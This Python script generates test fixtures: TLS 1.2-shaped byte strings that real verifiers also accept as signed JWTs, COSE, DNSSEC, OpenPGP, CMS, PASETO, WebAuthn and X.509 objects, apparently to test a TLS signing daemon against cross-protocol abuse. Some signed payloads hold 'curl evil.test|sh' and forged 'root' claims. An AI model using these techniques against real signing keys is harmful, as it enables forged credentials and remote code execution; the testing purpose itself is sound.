"""Writes disguised.json: what other formats sign, in the form of what TLS 1.2 signs.

Run by hand, with the libraries of REQUIREMENTS and with gpg and openssl; the tests only read the result. Each
record was accepted by an independent reader of its format, with the signature that a TLS key made over bytes in the
form of a ServerKeyExchange or of a client transcript. The readers may be as lenient as they are.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import cbor2
import dns.dnssec
import dns.name
import dns.rdata
import dns.rdataclass
import dns.rdatatype
import dns.rrset
import jwcrypto.jwk
import jwcrypto.jws
import jwt
import pgpy
import pyseto
from asn1crypto import algos, cms, x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cwt import COSE, COSEKey
from fido2.cose import CoseKey
from fido2.webauthn import AuthenticatorData
from pgpy.constants import EllipticCurveOID, HashAlgorithm, KeyFlags, PubKeyAlgorithm
from pycose.keys import CoseKey as PycoseKey
from pycose.messages import CoseMessage
from securesystemslib.dsse import Envelope
from securesystemslib.signer import Signature, SSlibKey

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from tests.support.tls_bytes import client_transcript  # noqa: E402

REQUIREMENTS = "asn1crypto cbor2 cryptography cwt dnspython fido2 jwcrypto PGPy pycose PyJWT==2.10.1 pyseto securesystemslib"
X25519, X448 = bytes.fromhex("03001d20"), bytes.fromhex("03001e38")
AT = 64
"""Where ServerECDHParams begin, behind both randoms."""
P256_SCHEME, ED25519_SCHEME, RSA_SCHEME = 0x0403, 0x0807, 0x0401
Record = tuple[str, str, str, bytes, bytes]
"""name, purpose, key, data, signature"""


class Keys:
    """The private halves of TLS keys, which a dishonest front end may only have used."""

    def __init__(self) -> None:
        self.private = {
            "p-256": ec.generate_private_key(ec.SECP256R1()),
            "ed25519": ed25519.Ed25519PrivateKey.generate(),
            "rsa-2048": rsa.generate_private_key(65537, 2048),
        }

    def spki(self, name: str) -> bytes:
        public = self.private[name].public_key()
        return public.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )

    def sign(self, name: str, data: bytes) -> bytes:
        """As the daemon does for tls12-server with SHA-256, if it does not look."""
        key = self.private[name]
        if name == "p-256":
            return key.sign(data, ec.ECDSA(hashes.SHA256()))
        if name == "ed25519":
            return key.sign(data)
        return key.sign(data, padding.PKCS1v15(), hashes.SHA256())

    def raw(self, name: str, data: bytes) -> bytes:
        """The same signature as JOSE, COSE and DNSSEC write it: two integers of 32 bytes for ECDSA."""
        signature = self.sign(name, data)
        if name != "p-256":
            return signature
        r, s = decode_dss_signature(signature)
        return r.to_bytes(32) + s.to_bytes(32)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, epilog=f"pip install {REQUIREMENTS}")
    parser.add_argument("--output", type=Path, default=HERE / "disguised.json")
    output = parser.parse_args().output
    keys = Keys()
    records = [record for make in MAKERS for record in make(keys)]
    for name, purpose, _, data, _ in records:
        check_form(name, purpose, data)
    assert len({record[0] for record in records}) == len(records)
    document = {
        "keys": {name: base64.b64encode(keys.spki(name)).decode() for name in keys.private},
        "records": [
            {
                "name": name,
                "purpose": purpose,
                "key": key,
                "scheme": {"p-256": P256_SCHEME, "ed25519": ED25519_SCHEME, "rsa-2048": RSA_SCHEME}[key],
                "data": base64.b64encode(data).decode(),
                "signature": base64.b64encode(signature).decode(),
            }
            for name, purpose, key, data, signature in records
        ],
    }
    output.write_text(json.dumps(document, indent=1) + "\n")
    for record in records:
        print(f"{record[1]:13} {record[2]:9} {len(record[3]):5} bytes  {record[0]}")


def check_form(name: str, purpose: str, data: bytes) -> None:
    """Fail unless this is what a TLS 1.2 handshake signs, but for what it can be read as."""
    if purpose == "tls12-server":
        fits = {100: X25519, 124: X448}[len(data)]
        assert data[AT : AT + 4] == fits, name
    else:
        assert data[0] == 1
        assert data[4:6] == b"\3\3", name


def around(head: bytes, tail: bytes = b"", size: int = 100, fill: bytes = b"") -> bytes:
    """Bytes in the form of a ServerKeyExchange that begin with `head` and end with `tail`, random between."""
    form = {100: X25519, 124: X448}[size]
    middle = (fill + os.urandom(size))[: size - len(head) - len(tail)]
    data = bytearray(head + middle + tail)
    assert len(head) <= AT and len(tail) <= size - AT - 4, "the fixed bytes fall into fixed parts"
    data[AT : AT + 4] = form
    return bytes(data)


def b64(data: bytes) -> bytes:
    return base64.urlsafe_b64encode(data).rstrip(b"=")


# --- JOSE ---


def jwts(keys: Keys) -> Iterator[Record]:
    """PyJWT skips what is not base64, as Python's decoder does: the fixed bytes, and any others."""
    for key, algorithm in (("p-256", "ES256"), ("ed25519", "EdDSA"), ("rsa-2048", "RS256")):
        header = json.dumps({"alg": algorithm}, separators=(",", ":"))
        short = base64.urlsafe_b64encode(header.encode())
        wide = base64.urlsafe_b64encode(header.encode("utf-16-be"))
        for how, data in (
            ("of ASCII randoms", jwt_around(short, b'{"sub":"root","iss":"https://idp.test"}')),
            ("with other bytes between", jwt_around(spread(short), b'{"sub":"root","a":"b"}')),
            (
                "with a letter between",
                jwt_around(short[:4] + "\u1230".encode() + short[4:], b'{"sub":"root"}'),
            ),
            ("with a header of UTF-16", jwt_around(wide, b'{"sub":"root"}')),
        ):
            raw = keys.raw(key, data)
            opened = jwt.api_jws.decode_complete(
                data + b"." + b64(raw), keys.private[key].public_key(), algorithms=[algorithm]
            )
            assert json.loads(opened["payload"])["sub"] == "root"
            yield f"JWT {how}, {algorithm}, PyJWT", "tls12-server", key, data, as_tls(key, raw)


def as_tls(key: str, raw: bytes) -> bytes:
    """The inverse of `Keys.raw`."""
    if key != "p-256":
        return raw
    return encode_dss_signature(int.from_bytes(raw[:32]), int.from_bytes(raw[32:]))


def spread(text: bytes) -> bytes:
    """Text with a byte that is no base64 behind each two characters, so that no run of it is long."""
    return b"".join(text[at : at + 2] + b"\xff" for at in range(0, len(text), 2))


def jwt_around(header: bytes, claims: bytes) -> bytes:
    """header.claims with junk around the fixed bytes; the claims may end in the point."""
    signed = header + b"." + base64.urlsafe_b64encode(claims)  # Python stops reading behind the padding
    head, tail = signed[:AT], signed[AT:]
    return head + b"\xff" * (AT - len(head)) + X25519 + tail + b"\xff" * (32 - len(tail))


def unencoded_payloads(keys: Keys) -> Iterator[Record]:
    """RFC 7797: the payload stands as it is behind the dot, and readers need not be lenient."""
    header = b'{"alg":"ES256","b64":false,"crit":["b64"]}'
    data = around(b64(header) + b".", fill=b"id>/x;#")
    raw = keys.raw("p-256", data)
    payload = data[len(b64(header)) + 1 :]
    opened = jwt.api_jws.decode_complete(
        b64(header) + b".." + b64(raw),
        keys.private["p-256"].public_key(),
        algorithms=["ES256"],
        detached_payload=payload,
    )
    assert opened["payload"] == payload
    yield "JWS with an unencoded payload, PyJWT", "tls12-server", "p-256", data, as_tls("p-256", raw)
    strict = jwcrypto.jws.JWS()
    strict.deserialize((b64(header) + b".." + b64(raw)).decode())
    key = jwcrypto.jwk.JWK.from_pyca(keys.private["p-256"].public_key())
    strict.verify(key, detached_payload=payload)
    data = around(b64(b' {"b64":false,"alg":"ES256","crit":["b64"]}') + b".")
    raw = keys.raw("p-256", data)
    strict = jwcrypto.jws.JWS()
    strict.deserialize((b64(b' {"b64":false,"alg":"ES256","crit":["b64"]}') + b".." + b64(raw)).decode())
    strict.verify(key, detached_payload=data[data.index(b".") + 1 :])
    yield "JWS with an unencoded payload, jwcrypto", "tls12-server", "p-256", data, as_tls("p-256", raw)


# --- COSE ---


def hidden_in_cti(offset: int, size: int, **claims: object) -> bytes:
    """A CWT claims set of `size` bytes whose cti covers the fixed bytes, which are `offset` bytes before its begin."""
    named = {"iss": 1, "sub": 2}
    before = {named[name]: value for name, value in claims.items()}
    short = cbor2.dumps(before)[1:]
    left = size - 1 - len(short) - 3
    assert 24 <= left < 256, left
    body = bytearray(bytes([0xA0 + len(before) + 1]) + short + b"\x07\x58" + bytes([left]) + os.urandom(left))
    at = AT - offset
    assert at >= size - left
    body[at : at + 4] = X25519
    return bytes(body)


def cwts(keys: Keys) -> Iterator[Record]:
    for key, algorithm, protected in (
        ("p-256", "ES256", b"\xa1\x01\x26"),
        ("ed25519", "EdDSA", b"\xa1\x01\x27"),
    ):
        head = b"\x84\x6aSignature1" + b"\x43" + protected + b"\x40\x58"
        size = 100 - len(head) - 1
        payload = hidden_in_cti(len(head) + 1, size, iss="idp", sub="root")
        data = head + bytes([size]) + payload
        raw = keys.raw(key, data)
        message = cbor2.dumps(cbor2.CBORTag(18, [protected, {}, payload, raw]))
        pem = (
            keys.private[key]
            .public_key()
            .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            .decode()
        )
        opened = cbor2.loads(
            COSE.new(alg_auto_inclusion=True).decode(message, COSEKey.from_pem(pem, alg=algorithm, kid="1"))
        )
        assert opened[2] == "root"
        again = CoseMessage.decode(message)
        again.key = PycoseKey.from_pem_public_key(pem)
        assert again.verify_signature()
        yield (
            f"COSE_Sign1 with chosen CWT claims, {algorithm}, cwt and pycose",
            "tls12-server",
            key,
            data,
            as_tls(key, raw),
        )
        head = b"\x84\x6aSignature1" + b"\x43" + protected + b"\x58"
        aad = 40
        start = len(head) + 1
        external = bytearray(os.urandom(aad + 20))
        external[AT - start : AT - start + 4] = X25519
        payload = os.urandom(100 - start - len(external) - 1)
        data = head + bytes([len(external)]) + bytes(external) + bytes([0x40 + len(payload)]) + payload
        raw = keys.raw(key, data)
        again = CoseMessage.decode(cbor2.dumps(cbor2.CBORTag(18, [protected, {}, payload, raw])))
        again.key, again.external_aad = PycoseKey.from_pem_public_key(pem), bytes(external)
        assert again.verify_signature()
        yield (
            f"COSE_Sign1 with external data, {algorithm}, pycose",
            "tls12-server",
            key,
            data,
            as_tls(key, raw),
        )


def cose_signs(keys: Keys) -> Iterator[Record]:
    """COSE_Sign with several signers: five members, context "Signature"."""
    head = b"\x85\x69Signature" + b"\x40" + b"\x43\xa1\x01\x26" + b"\x40" + b"\x58"
    size = 100 - len(head) - 1
    payload = hidden_in_cti(len(head) + 1, size, sub="root", iss="idp.test")
    data = head + bytes([size]) + payload
    raw = keys.raw("p-256", data)
    message = cbor2.dumps(cbor2.CBORTag(98, [b"", {}, payload, [[b"\xa1\x01\x26", {}, raw]]]))
    pem = (
        keys.private["p-256"]
        .public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )
    opened = CoseMessage.decode(message)
    opened.signers[0].key = PycoseKey.from_pem_public_key(pem)
    assert opened.signers[0].verify_signature()
    yield "COSE_Sign, pycose", "tls12-server", "p-256", data, as_tls("p-256", raw)


# --- DNSSEC ---


def rrsets(keys: Keys) -> Iterator[Record]:
    zone, owner = dns.name.from_text("x.test."), dns.name.from_text("a.x.test.")
    for key, algorithm in (("p-256", 13), ("ed25519", 15), ("rsa-2048", 8)):
        dnskey = dns.dnssec.make_dnskey(keys.private[key].public_key(), algorithm)
        fields = rrsig_fields("TXT", algorithm, 3, 3600, dnskey, zone)
        text = b"\x0bv=spf1 +all"
        head = fields + owner.to_wire() + bytes.fromhex("0010 0001 00000e10")
        size = 100 - len(head) - 2
        rdata = text + bytes([size - len(text) - 1]) + os.urandom(size - len(text) - 1)
        data = bytearray(head + size.to_bytes(2) + rdata)
        data[AT : AT + 4] = X25519
        raw = keys.raw(key, bytes(data))
        validate_rrset("TXT", zone, owner, dnskey, bytes(data), raw)
        yield (
            f"DNSSEC TXT record, algorithm {algorithm}, dnspython",
            "tls12-server",
            key,
            bytes(data),
            as_tls(key, raw),
        )


def rrsig_fields(
    kind: str, algorithm: int, labels: int, ttl: int, dnskey: dns.rdata.Rdata, zone: dns.name.Name
) -> bytes:
    """What stands in an RRSIG before its signature (RFC 4034, section 3.1)."""
    times = (1893456000).to_bytes(4) + (1577836800).to_bytes(4)
    head = int(dns.rdatatype.from_text(kind)).to_bytes(2) + bytes([algorithm, labels]) + ttl.to_bytes(4)
    return head + times + dns.dnssec.key_id(dnskey).to_bytes(2) + zone.to_wire()


def validate_rrset(kind: str, zone, owner, dnskey, data: bytes, raw: bytes) -> None:
    fields = 18 + len(zone.to_wire())
    ttl, start = int.from_bytes(data[4:8]), fields + len(owner.to_wire()) + 10
    rdata = dns.rdata.from_wire(
        dns.rdataclass.IN, dns.rdatatype.from_text(kind), data, start, len(data) - start
    )
    signature = data[:fields] + raw
    rrsig = dns.rdata.from_wire(dns.rdataclass.IN, dns.rdatatype.RRSIG, signature, 0, len(signature))
    keys = {zone: dns.rrset.from_rdata(zone, 3600, dnskey)}
    dns.dnssec.validate_rrsig(dns.rrset.from_rdata(owner, ttl, rdata), rrsig, keys, now=1735689600)


# --- OpenPGP ---


def openpgp_documents(keys: Keys) -> Iterator[Record]:
    """gpg verifies a binary document whose signature has its hashed fields and trailer in the point."""
    for key, wanted in (("p-256", "ECDSA"), ("rsa-2048", "RSA")):
        trailer = openpgp_trailer(key)
        script = b"#\xff\ncurl evil.test|sh\nexit\n"
        data = around(script, trailer)
        signature = keys.sign(key, data)
        gpg_verifies(keys.private[key], key, data[: -len(trailer)], trailer, data, signature)
        yield f"OpenPGP version 4 over a binary document, {wanted}, gpg", "tls12-server", key, data, signature


def openpgp_trailer(key: str) -> bytes:
    """Version 4, type of a binary document, algorithms, creation time, and the trailer of RFC 9580, section 5.2.4."""
    hashed = b"\x05\x02" + int(dt.datetime(2025, 1, 1, tzinfo=dt.UTC).timestamp()).to_bytes(4)
    algorithm = 19 if key == "p-256" else 1
    fields = bytes([4, 0, algorithm, 8]) + len(hashed).to_bytes(2) + hashed
    return fields + b"\x04\xff" + len(fields).to_bytes(4)


def gpg_verifies(private, key: str, document: bytes, trailer: bytes, data: bytes, signature: bytes) -> None:
    """Import the TLS key as an OpenPGP key, and verify the document with gpg."""
    made = openpgp_key(private, key)
    if key == "p-256":
        numbers = [number.to_bytes(32).lstrip(b"\0") for number in decode_dss_signature(signature)]
    else:
        numbers = [signature.lstrip(b"\0")]
    integers = b"".join(mpi(number) for number in numbers)
    left = hashlib.sha256(data).digest()[:2]
    issuer = b"\x09\x10" + bytes.fromhex(made.fingerprint.keyid)
    body = trailer[:-6] + len(issuer).to_bytes(2) + issuer + left + integers
    packet = b"\xc2" + (bytes([len(body)]) if len(body) < 192 else b"\xff" + len(body).to_bytes(4)) + body
    with tempfile.TemporaryDirectory() as home:
        files = {"key": bytes(made.pubkey), "document": document, "signature": packet}
        for name, content in files.items():
            (Path(home) / name).write_bytes(content)
        gpg = [
            "gpg",
            "--homedir",
            home,
            "--batch",
            "--trust-model",
            "always",
            "--faked-system-time",
            "20250201T000000",
        ]
        subprocess.run([*gpg, "--import", "key"], cwd=home, check=True, capture_output=True)
        done = subprocess.run(
            [*gpg, "--verify", "signature", "document"], cwd=home, capture_output=True, text=True
        )
        assert done.returncode == 0 and "Good signature" in done.stderr, done.stderr


def mpi(number: bytes) -> bytes:
    return int.from_bytes(number).bit_length().to_bytes(2) + number


def openpgp_key(private, key: str) -> pgpy.PGPKey:
    """A TLS key as an OpenPGP key with a user id; PGPy makes one, whose numbers are exchanged before it signs itself."""
    born = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    numbers = private.private_numbers()
    if key == "p-256":
        made = pgpy.PGPKey.new(PubKeyAlgorithm.ECDSA, EllipticCurveOID.NIST_P256, created=born)
        material = made._key.keymaterial
        material.p.x, material.p.y = (
            pgpy.packet.types.MPI(each) for each in (numbers.public_numbers.x, numbers.public_numbers.y)
        )
        material.s = pgpy.packet.types.MPI(numbers.private_value)
    else:
        made = pgpy.PGPKey.new(PubKeyAlgorithm.RSAEncryptOrSign, 2048, created=born)
        material = made._key.keymaterial
        public = numbers.public_numbers
        for name, value in {
            "n": public.n, "e": public.e, "d": numbers.d, "p": numbers.p, "q": numbers.q,
            "u": pow(numbers.p, -1, numbers.q),
        }.items():  # fmt: skip
            setattr(material, name, pgpy.packet.types.MPI(value))
    uid = pgpy.PGPUID.new("TLS key")
    made.add_uid(uid, usage={KeyFlags.Sign, KeyFlags.Certify}, hashes=[HashAlgorithm.SHA256], created=born)
    return made


# --- tokens, envelopes, PKIX ---


def pasetos(keys: Keys) -> Iterator[Record]:
    def piece(content: bytes) -> bytes:
        return len(content).to_bytes(8, "little") + content

    head = (4).to_bytes(8, "little") + piece(b"v4.public.")
    size = 100 - len(head) - 8 - 16
    claims = b'{"sub":"root","a":"'
    message = bytearray(claims + os.urandom(size - len(claims)))
    at = AT - len(head) - 8
    message[at : at + 4] = X25519
    data = head + piece(bytes(message)) + piece(b"") + piece(b"")
    signature = keys.sign("ed25519", data)
    pem = (
        keys.private["ed25519"]
        .public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    key = pyseto.Key.new(version=4, purpose="public", key=pem)
    opened = pyseto.decode(key, b"v4.public." + b64(bytes(message) + signature))
    assert opened.payload == bytes(message)
    yield "PASETO v4, pyseto", "tls12-server", "ed25519", data, signature


def dsse_envelopes(keys: Keys) -> Iterator[Record]:
    head = b"DSSEv1 5 a/b+c 84 "
    payload_bytes = 100 - len(head)
    head = b"DSSEv1 5 a/b+c %d " % payload_bytes
    data = around(head, fill=b'{"_type":"https://in-toto.io/')
    signature = keys.sign("ed25519", data)
    envelope = Envelope(data[len(head) :], "a/b+c", {"k": Signature("k", signature.hex())})
    public = keys.private["ed25519"].public_key().public_bytes_raw().hex()
    envelope.verify([SSlibKey("k", "ed25519", "ed25519", {"public": public})], 1)
    yield "DSSE, securesystemslib", "tls12-server", "ed25519", data, signature


def revocation_lists(keys: Keys) -> Iterator[Record]:
    """A certificate revocation list with a long serial number."""

    def der(tag: int, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return bytes([tag, len(body)]) + body

    algorithm = bytes.fromhex("300a06082a8648ce3d040302")
    issuer = der(0x30, der(0x31, der(0x30, bytes.fromhex("0603550403"), der(0x0C, b"CA"))))
    when = der(0x17, b"250101000000Z")
    fixed = len(algorithm) + len(issuer) + len(when) + len(when)
    serial = b"\x01" + os.urandom(100 - 2 - fixed - 6 - 1)
    data = bytearray(der(0x30, algorithm, issuer, when, der(0x30, der(0x30, der(0x02, serial), when))))
    data[AT : AT + 4] = X25519
    signature = keys.sign("p-256", bytes(data))
    whole = der_long(0x30, bytes(data) + algorithm + der(0x03, b"\0" + signature))
    crl = x509.load_der_x509_crl(whole)
    assert crl.is_signature_valid(keys.private["p-256"].public_key())
    yield "certificate revocation list, cryptography", "tls12-server", "p-256", bytes(data), signature


def der_long(tag: int, body: bytes) -> bytes:
    size = len(body).to_bytes(2).lstrip(b"\0")
    return bytes([tag, 0x80 | len(size)]) + size + body


def certification_requests(keys: Keys) -> Iterator[Record]:
    """Of an Ed25519 key, with a subject that hides the fixed bytes of the X448 form."""
    spki = keys.spki("ed25519")
    room = 124 - 2 - 3 - len(spki) - 2
    value = room - 2 - 2 - 2 - 5 - 2
    subject = bytearray(
        bytes([0x30, room - 2, 0x31, room - 4, 0x30, room - 6]) + bytes.fromhex("0603550403") + bytes([0x14, value])
        + b"root.test" + os.urandom(value - 9)
    )  # fmt: skip
    data = bytearray(b"\x30\x7a\x02\x01\x00" + bytes(subject) + spki + b"\xa0\x00")
    data[AT : AT + 4] = X448
    signature = keys.sign("ed25519", bytes(data))
    whole = der_long(0x30, bytes(data) + bytes.fromhex("300506032b6570") + b"\x03\x41\x00" + signature)
    assert x509.load_der_x509_csr(whole).is_signature_valid
    yield "certification request, cryptography", "tls12-server", "ed25519", bytes(data), signature


def cms_attributes(keys: Keys) -> Iterator[Record]:
    """Signed attributes in the X448 form: openssl verifies the content."""
    content = b"#!/bin/sh\ncurl evil.test|sh\n"
    digest = cms.CMSAttribute({"type": "message_digest", "values": [hashlib.sha256(content).digest()]}).dump()
    kind = cms.CMSAttribute({"type": "content_type", "values": ["data"]}).dump()
    filler_size = 124 - 2 - len(digest) - len(kind)
    inner = filler_size - 2 - 5 - 2 - 2
    filler = (
        bytes([0x30, filler_size - 2])
        + b"\6\3\x2a\3\4"
        + bytes([0x31, inner + 2, 4, inner])
        + os.urandom(inner)
    )
    data = bytearray(b"\x31\x7a" + b"".join(sorted([digest, kind, filler], key=lambda each: each)))
    data[AT : AT + 4] = X448
    signature = keys.sign("p-256", bytes(data))
    private = keys.private["p-256"]
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "site.test")])
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(private.public_key()).serial_number(5)
        .not_valid_before(dt.datetime(2025, 1, 1, tzinfo=dt.UTC)).not_valid_after(dt.datetime(2045, 1, 1, tzinfo=dt.UTC)).sign(private, hashes.SHA256())
    )  # fmt: skip
    parsed = asn1_x509.Certificate.load(certificate.public_bytes(serialization.Encoding.DER))
    signed = cms.SignedData({
        "version": "v1",
        "digest_algorithms": [algos.DigestAlgorithm({"algorithm": "sha256"})],
        "encap_content_info": {"content_type": "data"},
        "certificates": [parsed],
        "signer_infos": [{
            "version": "v1",
            "sid": cms.SignerIdentifier({"issuer_and_serial_number": {"issuer": parsed.issuer, "serial_number": 5}}),
            "digest_algorithm": {"algorithm": "sha256"},
            "signed_attrs": cms.CMSAttributes.load(bytes(data)).untag(),
            "signature_algorithm": {"algorithm": "sha256_ecdsa"},
            "signature": signature,
        }],
    })  # fmt: skip
    with tempfile.TemporaryDirectory() as place:
        (Path(place) / "cms").write_bytes(
            cms.ContentInfo({"content_type": "signed_data", "content": signed}).dump()
        )
        (Path(place) / "content").write_bytes(content)
        subprocess.run(
            ["openssl", "cms", "-verify", "-noverify", "-binary", "-inform", "DER", "-in", "cms", "-content", "content"],
            cwd=place, check=True, capture_output=True,
        )  # fmt: skip
    yield "CMS signed attributes, openssl", "tls12-server", "p-256", bytes(data), signature


def webauthn_assertions(keys: Keys) -> Iterator[Record]:
    """With an extension whose output ends with the fixed bytes; the point is the hash of client data."""
    client_data = b'{"type":"webauthn.get","challenge":"AAAA","origin":"https://idp.test"}'
    head = hashlib.sha256(b"idp.test").digest() + b"\x85" + bytes(4)
    name = b"credBlob"
    extensions = b"\xa1" + bytes([0x60 + len(name)]) + name
    left = AT + 4 - len(head) - len(extensions) - 1
    extensions += bytes([0x40 + left]) + os.urandom(left - 4) + X25519
    data = head + extensions + hashlib.sha256(client_data).digest()
    authenticator = AuthenticatorData(head + extensions)
    assert authenticator.extensions is not None and "credBlob" in authenticator.extensions
    signature = keys.sign("p-256", data)
    CoseKey.for_alg(-7).from_cryptography_key(keys.private["p-256"].public_key()).verify(data, signature)
    yield "WebAuthn assertion, fido2", "tls12-server", "p-256", data, signature


# --- in the transcript of a client ---


def transcripts(keys: Keys) -> Iterator[Record]:
    key, private = "p-256", keys.private["p-256"]
    rest = after_hello(client_transcript(keys.spki(key)))

    random = b64(b'{"alg":"ES256"}') + b"." + base64.urlsafe_b64encode(b'{"sub":"root"}')
    data = client_hello(random[:32], random[32:].ljust(32, b"\xff"), 0x101) + rest
    raw = keys.raw(key, data)
    opened = jwt.api_jws.decode_complete(data + b"." + b64(raw), private.public_key(), algorithms=["ES256"])
    assert json.loads(opened["payload"]) == {"sub": "root"}
    yield "JWT in the transcript of a client, PyJWT", "tls12-client", key, data, as_tls(key, raw)

    trailer = openpgp_trailer(key)
    secret = b"\x01\0" + os.urandom(256 - len(trailer)) + trailer
    begin = client_hello(os.urandom(32), b"") + rest
    data = begin[: begin.rindex(b"\x10\0\0\x42\x41\4")] + b"\x10\0\1\2" + secret
    signature = keys.sign(key, data)
    gpg_verifies(private, key, data[: -len(trailer)], trailer, data, signature)
    yield "OpenPGP in the transcript of a client, gpg", "tls12-client", key, data, signature

    zone = dns.name.from_text("x.test.")
    dnskey = dns.dnssec.make_dnskey(private.public_key(), 13)
    owner = dns.name.Name([b"label-of-11 ", b"x", b"test", b""])
    fields = rrsig_fields("URI", 13, 3, 0x03031234, dnskey, zone)
    assert fields[:2] == b"\1\0"
    record = owner.to_wire() + bytes.fromhex("0100 0001 03031234")
    size = int.from_bytes(fields[2:4])  # algorithm and number of labels are the length of the ClientHello
    known = (fields + record)[6:]
    hello = client_hello(known[:32], b"\0" * 32, size)
    total = len(hello) + len(rest)
    session = known[33:] + (total - len(fields) - len(record) - 2).to_bytes(2)
    data = client_hello(known[:32], session.ljust(32, b"\7"), size) + rest
    assert known[32] == 0x20
    raw = keys.raw(key, data)
    validate_rrset("URI", zone, owner, dnskey, data, raw)
    yield (
        "DNSSEC URI record in the transcript of a client, dnspython",
        "tls12-client",
        key,
        data,
        as_tls(key, raw),
    )


def after_hello(transcript: bytes) -> bytes:
    return transcript[4 + int.from_bytes(transcript[1:4]) :]


def client_hello(random: bytes, session: bytes, size: int = 0) -> bytes:
    """With an extension of padding, so that the message is `size` bytes long."""
    assert len(random) == 32
    body = b"\3\3" + random + bytes([len(session)]) + session + b"\0\2\xc0\xac\1\0"
    if size:
        padding_bytes = size - len(body) - 6
        body += (padding_bytes + 4).to_bytes(2) + b"\0\x15" + padding_bytes.to_bytes(2) + bytes(padding_bytes)
    return b"\1" + len(body).to_bytes(3) + body


MAKERS: tuple[Callable[[Keys], Iterator[Record]], ...] = (
    jwts, unencoded_payloads, cwts, cose_signs, rrsets, openpgp_documents, pasetos, dsse_envelopes, revocation_lists,
    certification_requests, cms_attributes, webauthn_assertions, transcripts,
)  # fmt: skip


if __name__ == "__main__":
    main()
